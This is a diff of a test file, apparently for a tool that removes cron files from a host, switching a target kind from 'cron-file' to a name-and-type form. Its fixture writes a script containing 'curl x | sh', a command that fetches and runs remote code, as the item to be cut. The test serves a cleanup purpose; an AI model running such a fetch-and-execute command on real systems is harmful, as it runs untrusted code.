@@ -97,13 +97,13 @@ describe('removing cron lines', () => {
     await host.write(path, '#!/bin/sh\ncurl x | sh\n', { mode: 0o755 });
     const { identity } = await fileTarget(host, path);
     if (identity.kind !== 'file') throw new Error('no file');
-    const whole = target({ ...identity, kind: 'cron-file' });
+    const whole = target({ ...identity, kind: 'name', type: 'file' });
     await host.write(path, '#!/bin/sh\nother\n', { mode: 0o755 });
     expect(await cut([whole])).toEqual(['changed']);
     expect(await text(path)).toBe('#!/bin/sh\nother\n');
     const now = await fileTarget(host, path);
     if (now.identity.kind !== 'file') throw new Error('no file');
-    expect(await cut([target({ ...now.identity, kind: 'cron-file' })])).toEqual(['done']);
+    expect(await cut([target({ ...now.identity, kind: 'name', type: 'file' })])).toEqual(['done']);
     expect((await host.run(['test', '-e', path])).code).toBe(1);
   });
 });
